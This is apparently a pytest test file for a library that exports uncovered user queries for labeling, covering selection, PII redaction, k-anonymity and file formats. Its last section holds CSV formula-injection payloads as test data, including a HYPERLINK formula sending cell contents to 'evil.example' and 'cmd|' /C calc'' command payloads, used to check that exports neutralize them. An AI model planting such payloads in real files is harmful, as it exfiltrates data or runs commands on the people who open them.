"""Labeling export: selection, redaction, k-anonymity and every file format, on a real report."""

from __future__ import annotations

import copy
import json
import os

import numpy as np
import pandas as pd
import pytest
from sklearn.decomposition import PCA

from evalcov import analyze
from evalcov.export import export_for_labeling, query_id, write_batch
from evalcov.safe_csv import restore_cell
from evalcov.selection import allocate, farthest_first, near_duplicate_share

INTENTS = [
    "accept_reservations", "account_blocked", "alarm", "application_status", "apr",
    "are_you_a_bot", "balance", "bill_balance", "bill_due", "book_flight", "book_hotel",
    "calculator",
]  # fmt: skip
HELD_OUT = ["accept_reservations", "account_blocked", "alarm", "application_status"]
EMAIL_ROW = 0


@pytest.fixture(scope="module")
def report(clinc, tmp_path_factory):
    """480 CLINC150 queries of 12 intents, 4 of them without any eval prompt."""
    rows = pd.DataFrame(clinc["train"], columns=["text", "intent"])
    rows = rows[rows["intent"].isin(INTENTS)]
    evals = rows[~rows["intent"].isin(HELD_OUT)].groupby("intent").head(4)
    traffic = rows.drop(evals.index).groupby("intent").head(40).reset_index(drop=True)
    rng = np.random.default_rng(0)
    traffic["user"] = [f"u{i}" for i in rng.integers(0, 60, len(traffic))]
    traffic["time"] = pd.Timestamp("2024-01-01", tz="UTC") + pd.to_timedelta(
        rng.integers(0, 30 * 86400, len(traffic)), unit="s"
    )
    assert traffic.loc[EMAIL_ROW, "intent"] in HELD_OUT
    traffic.loc[EMAIL_ROW, "text"] += " email me at bob@example.com"
    # Module fixtures run before conftest's per-test cache fixture: point at the same cache.
    # A PCA reducer instead of UMAP keeps the fixture fast; embeddings are the real model's.
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("EVALCOV_CACHE_DIR", str(tmp_path_factory.getbasetemp() / "cache"))
        return analyze(
            traffic,
            evals[["text"]],
            text="text",
            user="user",
            time="time",
            reducer=PCA(10, random_state=0),
        )


# ---------------------------------------------------------------- selection rules


def test_allocate_proportional_with_a_floor():
    cap = np.full(4, 100)
    # Floors 1 each, then 6 split 5:3:1:1 -> 3, 1.8, .6, .6 -> largest remainders to g1, g2.
    assert allocate(10, np.array([5, 3, 1, 1]), cap, 1).tolist() == [4, 3, 2, 1]
    # Fewer picks than gaps: the biggest gaps first.
    assert allocate(2, np.array([5, 3, 1]), cap[:3], 1).tolist() == [1, 1, 0]
    # A gap that runs out of candidates hands its share to the others.
    assert allocate(10, np.array([5, 1]), np.array([2, 100]), 1).tolist() == [2, 8]
    assert allocate(50, np.array([1, 1]), np.array([3, 4]), 1).tolist() == [3, 4]


def test_farthest_first_skips_near_duplicates():
    a = np.array([1.0, 0.0, 0.0])
    near_a = np.array([0.99, 0.14, 0.0]) / np.linalg.norm([0.99, 0.14, 0.0])
    b = np.array([0.0, 1.0, 0.0])
    c = np.array([0.0, 0.0, 1.0])
    X = np.vstack([a, near_a, b, c]).astype(np.float32)
    picks = farthest_first(X, 4)
    assert sorted(picks.tolist()) in ([0, 2, 3], [1, 2, 3])
    assert near_duplicate_share(X[picks]) == 0.0
    assert near_duplicate_share(X) == 0.5
    # Vectors picked elsewhere count as duplicates too.
    assert farthest_first(X, 4, picked=X[[2, 3]]).tolist() in ([0], [1])


def test_budget_split_follows_uncovered_traffic(report):
    gaps = report.gaps(n=None)
    assert len(gaps) >= 3
    batch = export_for_labeling(report, n=20)
    u = report.unique_
    # A gap is a topic: its candidates are the uncovered queries of all its clusters.
    topic_of = report.clusters.set_index("cluster")["topic"]
    u_topic = topic_of.loc[u["cluster"]].to_numpy()
    capacity = [
        int(((u_topic == t) & ~u["covered"] & (u["weight"] > 0)).sum()) for t in gaps["topic"]
    ]
    expected = allocate(20, gaps["uncovered_share"].to_numpy(), np.array(capacity), 1)
    picked = topic_of.loc[batch["cluster"]]
    got = picked.value_counts().reindex(gaps["topic"], fill_value=0).to_numpy()
    assert got.tolist() == expected.tolist()
    assert len(batch) == 20
    # Rows are grouped by gap, the gap with most uncovered traffic first.
    assert picked.iloc[0] == gaps["topic"].iloc[0]
    assert (picked.to_numpy()[:-1] != picked.to_numpy()[1:]).sum() == (got > 0).sum() - 1


@pytest.mark.parametrize("strategy", ["diverse", "proportional", "random"])
def test_picks_are_uncovered_gap_queries_and_deterministic(report, strategy):
    first = export_for_labeling(report, n=25, strategy=strategy, redact=False)
    again = export_for_labeling(report, n=25, strategy=strategy, redact=False)
    pd.testing.assert_frame_equal(first, again)
    assert first["id"].is_unique and len(first) == 25
    u = report.unique_.set_index("text")
    assert not u.loc[first["text"], "covered"].any()
    assert set(first["status"]) == {"uncovered"}
    assert set(first["cluster"]) <= set(report.gaps(n=None, level="cluster")["cluster"])


def test_random_state_changes_sampled_batches_only(report):
    a = export_for_labeling(report, n=15, strategy="random", random_state=1)
    b = export_for_labeling(report, n=15, strategy="random", random_state=2)
    assert set(a["id"]) != set(b["id"])
    d1 = export_for_labeling(report, n=15, random_state=1)
    d2 = export_for_labeling(report, n=15, random_state=2)
    pd.testing.assert_frame_equal(d1, d2)


def test_diverse_batch_has_no_near_duplicates(report):
    batch = export_for_labeling(report, n=60, redact=False)
    rows = report.unique_.reset_index().set_index("text").loc[batch["text"], "index"]
    assert near_duplicate_share(report.traffic_embeddings_[rows.to_numpy()]) == 0.0


def test_clusters_restricts_and_rejects_bad_ids(report):
    gaps = report.gaps(n=None)
    wanted = [int(gaps["cluster"].iloc[-1])]
    batch = export_for_labeling(report, n=10, clusters=wanted)
    assert set(batch["cluster"]) == set(wanted)
    with pytest.raises(ValueError, match="unknown cluster"):
        export_for_labeling(report, clusters=[999])
    covered = report.clusters.loc[report.clusters["status"] == "covered", "cluster"].iloc[0]
    with pytest.raises(ValueError, match="covered"):
        export_for_labeling(report, clusters=[int(covered)])


def test_columns_ids_counts_and_times(report):
    batch = export_for_labeling(report, n=10)
    assert list(batch.columns) == [
        "id", "text", "cluster", "cluster_label", "status", "similarity", "nearest_eval",
        "count", "weight", "n_users", "first_seen", "last_seen", "input_ids",
    ]  # fmt: skip
    raw = export_for_labeling(report, n=10, redact=False)
    assert raw["id"].tolist() == [query_id(t) for t in raw["text"]]
    q = report.queries
    for row in raw.itertuples():
        rows = q[q["text"] == row.text]
        assert row.input_ids == rows["id"].astype(str).tolist()
        assert row.count == len(rows)
        assert row.first_seen == rows["time"].min() and row.last_seen == rows["time"].max()
        assert row.similarity == pytest.approx(float(rows["similarity"].iloc[0]))
        assert row.nearest_eval == rows["nearest_eval"].iloc[0]


def test_pii_is_redacted_by_default(report):
    planted = report.queries.loc[EMAIL_ROW]
    assert not planted["covered"]
    n = int((report.queries["cluster"] == planted["cluster"]).sum())
    kwargs = dict(n=n, clusters=[int(planted["cluster"])])
    batch = export_for_labeling(report, **kwargs)
    row = batch[batch["input_ids"].map(lambda ids: str(planted["id"]) in ids)]
    assert len(row) == 1
    assert "bob@example.com" not in row["text"].iloc[0]
    assert row["text"].iloc[0].endswith("email me at [EMAIL]")
    assert row["id"].iloc[0] == query_id(planted["text"])
    assert not batch["text"].str.contains("@example.com").any()
    raw = export_for_labeling(report, redact=False, **kwargs)
    assert planted["text"] in raw["text"].tolist()
    shout = export_for_labeling(report, redact=str.upper, **kwargs)
    assert planted["text"].upper() in shout["text"].tolist()


def test_min_users(report):
    q = report.queries
    users = q.groupby("cluster")["user"].nunique()
    # k-anonymity holds per cluster: every untested cluster of a gap is checked.
    gaps = report.gaps(n=None, level="cluster")["cluster"]
    k = int(users.loc[gaps].median())
    batch = export_for_labeling(report, n=30, min_users=k)
    assert len(batch) > 0
    assert (users.loc[batch["cluster"].unique()] >= k).all()
    skipped = batch.attrs["skipped_clusters"]
    assert sorted(skipped) == sorted(c for c in gaps if users.loc[c] < k)
    assert not set(skipped) & set(batch["cluster"])
    nobody = export_for_labeling(report, n=30, min_users=10_000)
    assert len(nobody) == 0 and sorted(nobody.attrs["skipped_clusters"]) == sorted(gaps)
    anonymous = copy.copy(report)
    anonymous.queries = q.drop(columns="user")
    with pytest.raises(ValueError, match="user="):
        export_for_labeling(anonymous, min_users=2)


def test_bad_arguments(report):
    with pytest.raises(ValueError, match="strategy"):
        export_for_labeling(report, strategy="best")
    with pytest.raises(ValueError, match="n must"):
        export_for_labeling(report, n=-1)
    with pytest.raises(ValueError, match="format"):
        export_for_labeling(report, format="xlsx")


# -------------------------------------------------------------------------- files

TRICKY = [
    'comma, "quotes" and\nnewline',
    "tab\tand ;semicolon; 'single'",
    "ünïcödé 日本語 עברית 🙂",
    "=1+1 looks like a formula",
]


def _tricky_batch(report, texts: list[str] = TRICKY) -> pd.DataFrame:
    batch = export_for_labeling(report, n=len(texts), redact=False)
    batch["text"] = texts
    batch["id"] = [query_id(t) for t in texts]
    return batch


@pytest.mark.parametrize(
    "fmt,name", [("csv", "b.csv"), ("jsonl", "b.jsonl"), ("parquet", "b.parquet")]
)
def test_tabular_round_trip(report, tmp_path, fmt, name):
    batch = _tricky_batch(report)
    path = tmp_path / name
    write_batch(batch, path, format=fmt)
    if fmt == "csv":
        back = pd.read_csv(path, keep_default_na=False, encoding="utf-8")
        back["input_ids"] = back["input_ids"].map(json.loads)
        # Formula-looking cells carry a neutralizing quote in the file; restore_cell undoes it.
        back["text"] = back["text"].map(restore_cell)
    elif fmt == "jsonl":
        back = pd.read_json(path, lines=True, dtype=False)
    else:
        back = pd.read_parquet(path)
        back["input_ids"] = back["input_ids"].map(list)
    assert list(back.columns) == list(batch.columns)
    assert back["text"].tolist() == TRICKY
    assert back["id"].tolist() == batch["id"].tolist()
    assert back["input_ids"].tolist() == batch["input_ids"].tolist()
    assert back["cluster"].tolist() == batch["cluster"].tolist()
    np.testing.assert_allclose(back["similarity"], batch["similarity"], rtol=1e-12)
    assert pd.to_datetime(back["first_seen"], utc=True).tolist() == batch["first_seen"].tolist()


def test_export_writes_what_it_returns_and_infers_format(report, tmp_path):
    batch = export_for_labeling(report, tmp_path / "gaps.jsonl", n=12)
    lines = (tmp_path / "gaps.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["text"] for line in lines] == batch["text"].tolist()
    export_for_labeling(report, tmp_path / "gaps.txt", n=12)
    assert pd.read_csv(tmp_path / "gaps.txt")["id"].tolist() == batch["id"].tolist()
    with pytest.raises(ValueError, match="label-studio"):
        export_for_labeling(report, tmp_path / "gaps.json", n=12)
    export_for_labeling(report, tmp_path / "tasks.jsonl", n=12, format="label-studio")
    assert isinstance(json.loads((tmp_path / "tasks.jsonl").read_text()), list)
    # The file gets the permissions a plain open() would give, not the temp file's 0600.
    umask = os.umask(0)
    os.umask(umask)
    assert (tmp_path / "gaps.jsonl").stat().st_mode & 0o777 == 0o666 & ~umask


def test_label_studio_tasks(report, tmp_path):
    batch = _tricky_batch(report)
    path = write_batch(batch, tmp_path / "tasks.json", format="label-studio")
    tasks = json.loads(path.read_text(encoding="utf-8"))
    assert isinstance(tasks, list) and len(tasks) == len(batch)
    for task, row in zip(tasks, batch.itertuples(), strict=True):
        assert set(task) == {"data", "meta"}  # the task-level "id" is Label Studio's own
        assert task["data"]["text"] == row.text
        assert task["data"]["query_id"] == row.id == task["meta"]["query_id"]
        assert task["data"]["cluster"] == row.cluster
        assert task["data"]["nearest_eval"] == row.nearest_eval
        assert task["meta"]["input_ids"] == row.input_ids
        assert all(not isinstance(v, (list, dict)) for v in task["data"].values())


def test_argilla_records(report, tmp_path):
    batch = _tricky_batch(report)
    path = write_batch(batch, tmp_path / "records.json", format="argilla")
    records = json.loads(path.read_text(encoding="utf-8"))
    assert [r["id"] for r in records] == batch["id"].tolist()
    assert [r["fields"]["text"] for r in records] == TRICKY
    assert all(set(r) == {"id", "fields", "metadata"} for r in records)
    assert records[0]["metadata"]["input_ids"] == batch["input_ids"].iloc[0]
    assert records[0]["metadata"]["cluster_label"] == batch["cluster_label"].iloc[0]


def test_refuses_to_overwrite(report, tmp_path):
    path = tmp_path / "batch.csv"
    path.write_text("keep me")
    with pytest.raises(FileExistsError, match="batch.csv"):
        export_for_labeling(report, path, n=5)
    assert path.read_text() == "keep me"
    export_for_labeling(report, path, n=5, overwrite=True)
    assert len(pd.read_csv(path)) == 5
    with pytest.raises(FileNotFoundError, match="does not exist"):
        export_for_labeling(report, tmp_path / "missing" / "b.csv", n=5)


def test_interrupted_write_leaves_nothing(report, tmp_path):
    batch = export_for_labeling(report, n=6)
    # A value JSON cannot encode in the middle of the batch: earlier lines are already
    # written to the temporary file when it fails.
    bad = batch.astype({"status": object})
    bad.loc[3, "status"] = object()
    with pytest.raises(TypeError):
        write_batch(bad, tmp_path / "b.jsonl", format="jsonl")
    assert list(tmp_path.iterdir()) == []
    # A failure while replacing an existing file keeps the old one intact.
    target = tmp_path / "b.jsonl"
    target.write_text("old")
    with pytest.raises(TypeError):
        write_batch(bad, target, format="jsonl", overwrite=True)
    assert target.read_text() == "old" and list(tmp_path.iterdir()) == [target]


def test_interrupted_by_a_crashing_writer(report, tmp_path, monkeypatch):
    import evalcov.export as export

    def crash(batch, f):
        f.write(b"id,text\nq-1,partial")
        raise KeyboardInterrupt

    monkeypatch.setitem(export._WRITERS, "csv", crash)
    with pytest.raises(KeyboardInterrupt):
        export_for_labeling(report, tmp_path / "b.csv", n=5)
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------------------------- formula injection

# Cells a spreadsheet would run (OWASP CSV injection), and look-alikes it would not.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click") cancel my plan',
    "+1-555-0100 call me back",
    "-2+3 what is this",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "'=already quoted",
    "what is =1+1 in the middle",
]


def _hostile_batch(report) -> pd.DataFrame:
    batch = _tricky_batch(report, HOSTILE)
    batch["cluster_label"] = "=cmd|' /C calc'!A0"
    return batch


def _spreadsheet_would_run(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_export_neutralizes_formulas_and_maps_back_to_query_ids(report, tmp_path):
    batch = _hostile_batch(report)
    write_batch(batch, tmp_path / "b.csv")
    back = pd.read_csv(tmp_path / "b.csv", keep_default_na=False, dtype=str)
    cells = back.to_numpy().ravel().tolist() + list(back.columns)
    assert [c for c in cells if _spreadsheet_would_run(c)] == []
    assert back["text"].tolist()[:6] == ["'" + t for t in HOSTILE[:6]]
    assert back["text"].iloc[6] == "''=already quoted"
    assert back["text"].iloc[7] == HOSTILE[7]  # no formula at the start: unchanged
    assert (back["cluster_label"] == "'=cmd|' /C calc'!A0").all()
    # Round trip: the neutralized text maps back to the original text and its query id.
    restored = back["text"].map(restore_cell)
    assert restored.tolist() == HOSTILE
    assert [query_id(t) for t in restored] == back["id"].tolist() == batch["id"].tolist()
    # Numbers are not formulas: a negative similarity stays a number.
    assert back["similarity"].astype(float).tolist() == pytest.approx(batch["similarity"])


def test_a_real_export_of_formula_queries_is_neutralized(report, tmp_path):
    """The user-facing path: formulas typed into production traffic, analyzed, exported."""
    q = report.queries
    traffic = q[["text"]].copy()
    uncovered = ~q["covered"].astype(bool)
    traffic.loc[uncovered, "text"] = "=" + traffic.loc[uncovered, "text"]
    evals = pd.DataFrame({"text": list(report.eval_dedup_.texts)})
    hostile = analyze(traffic, evals, text="text", reducer=PCA(10, random_state=0))
    batch = export_for_labeling(hostile, tmp_path / "b.csv", n=len(traffic), redact=False)
    formulas = [t for t in batch["text"] if t.startswith("=")]
    assert len(formulas) >= 10  # the returned frame keeps the exact text
    back = pd.read_csv(tmp_path / "b.csv", keep_default_na=False, dtype=str)
    assert back["text"].tolist() == [("'" + t if t.startswith("=") else t) for t in batch["text"]]
    assert not back["text"].map(_spreadsheet_would_run).any()
    assert [query_id(restore_cell(t)) for t in back["text"]] == batch["id"].tolist()


def test_formula_neutralization_can_be_turned_off_and_other_formats_keep_exact_text(
    report, tmp_path
):
    batch = _hostile_batch(report)
    write_batch(batch, tmp_path / "raw.csv", neutralize_formulas=False)
    raw = pd.read_csv(tmp_path / "raw.csv", keep_default_na=False, dtype=str)
    assert raw["text"].tolist() == HOSTILE
    write_batch(batch, tmp_path / "b.jsonl", format="jsonl")
    lines = (tmp_path / "b.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["text"] for line in lines] == HOSTILE
    write_batch(batch, tmp_path / "b.parquet", format="parquet")
    assert pd.read_parquet(tmp_path / "b.parquet")["text"].tolist() == HOSTILE
    write_batch(batch, tmp_path / "ls.json", format="label-studio")
    tasks = json.loads((tmp_path / "ls.json").read_text(encoding="utf-8"))
    assert [t["data"]["text"] for t in tasks] == HOSTILE
    write_batch(batch, tmp_path / "ag.json", format="argilla")
    records = json.loads((tmp_path / "ag.json").read_text(encoding="utf-8"))
    assert [r["fields"]["text"] for r in records] == HOSTILE
